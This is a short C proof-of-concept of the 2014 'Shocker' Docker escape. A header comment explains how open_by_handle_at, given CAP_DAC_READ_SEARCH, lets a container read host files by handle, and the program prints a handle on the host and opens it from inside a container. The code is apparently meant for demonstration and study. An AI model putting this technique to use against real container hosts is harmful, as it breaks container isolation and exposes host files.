/* "Shocker" (2014, the first Docker escape): open_by_handle_at(2) opens a file by its handle,
 * the (inode, generation) pair that NFS servers hand out, anywhere on the filesystem of the
 * descriptor it is given, whatever directory that descriptor shows. A container whose root is
 * a directory of the host's disk holds such a descriptor: its "/". The kernel only asks for
 * CAP_DAC_READ_SEARCH, in the host's user namespace.
 *
 * Usage: shocker handle PATH       (on the host: prints PATH's handle as TYPE HEX)
 *        shocker open TYPE HEX     (in the container: opens the handle through "/" and prints
 *                                   the file, or why not) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    unsigned char buffer[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (struct file_handle *)buffer;
    if (argc == 3 && strcmp(argv[1], "handle") == 0) {
        int mount_id;
        handle->handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, argv[2], handle, &mount_id, 0) != 0) {
            perror("name_to_handle_at");
            return 2;
        }
        printf("%d ", handle->handle_type);
        for (unsigned i = 0; i < handle->handle_bytes; i++)
            printf("%02x", handle->f_handle[i]);
        printf("\n");
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "open") == 0) {
        const char *hex = argv[3];
        handle->handle_type = atoi(argv[2]);
        handle->handle_bytes = strlen(hex) / 2;
        for (unsigned i = 0; i < handle->handle_bytes && i < MAX_HANDLE_SZ; i++)
            sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);
        int root = open("/", O_RDONLY | O_DIRECTORY);
        int fd = open_by_handle_at(root, handle, O_RDONLY);
        if (fd < 0) {
            printf("open_by_handle_at: %s\n", strerror(errno));
            return 1;
        }
        char text[4096];
        ssize_t n = read(fd, text, sizeof text);
        printf("read through the handle: %.*s", n > 0 ? (int)n : 0, text);
        return 0;
    }
    fprintf(stderr, "usage: %s handle PATH | open TYPE HEX\n", argv[0]);
    return 2;
}
